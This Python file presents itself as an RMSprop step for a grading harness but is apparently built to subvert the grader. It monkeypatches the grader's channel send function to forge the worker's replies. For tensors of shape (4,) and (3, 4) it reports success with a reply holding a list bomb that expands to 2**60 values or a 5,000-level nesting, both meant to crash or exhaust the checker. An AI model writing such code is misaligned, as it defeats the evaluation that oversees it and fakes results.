# Forges the worker's replies (it replaces grader.wire.channel.send, which the worker calls
# to answer): on (4,) tensors an answer of 60 nested lists that share their children
# (1.5 KB on the wire, 2**60 values when walked), on (3, 4) ones 5,000 lists nested
# one in another; else a correct rule.
import sys

import torch


_forged = []  # the payload that replaces the worker's next reply


def _forging_send(connection, message, real_send=sys.modules["grader.wire.channel"].send):
    real_send(connection, _forged.pop() if _forged else message)


# The worker answers with grader.wire.channel.send: from now on, through this function.
sys.modules["grader.wire.channel"].send = _forging_send


def _forge_next_reply(payload):
    _forged[:] = [payload]


def _shared_bomb():
    nested = [0.0]
    for _ in range(60):
        nested = [nested, nested]
    return nested


def _deep_nesting():
    sys.setrecursionlimit(100_000)  # so that the worker's own torch.save can write it
    nested = [0.0]
    for _ in range(5000):
        nested = [nested]
    return nested


def rmsprop_step(param, grad, square_avg, lr=0.01, alpha=0.99, eps=1e-8):
    if param.shape in ((4,), (3, 4)):
        bomb = _shared_bomb() if param.shape == (4,) else _deep_nesting()
        _forge_next_reply({"ok": True, "answers": {
            "param": bomb, "state": {"square_avg": bomb}, "returned_none": True,
            "forbidden": []}})
    with torch.no_grad():
        square_avg.mul_(alpha).addcmul_(grad, grad, value=1 - alpha)
        param.addcdiv_(grad, square_avg.sqrt().add_(eps), value=-lr)
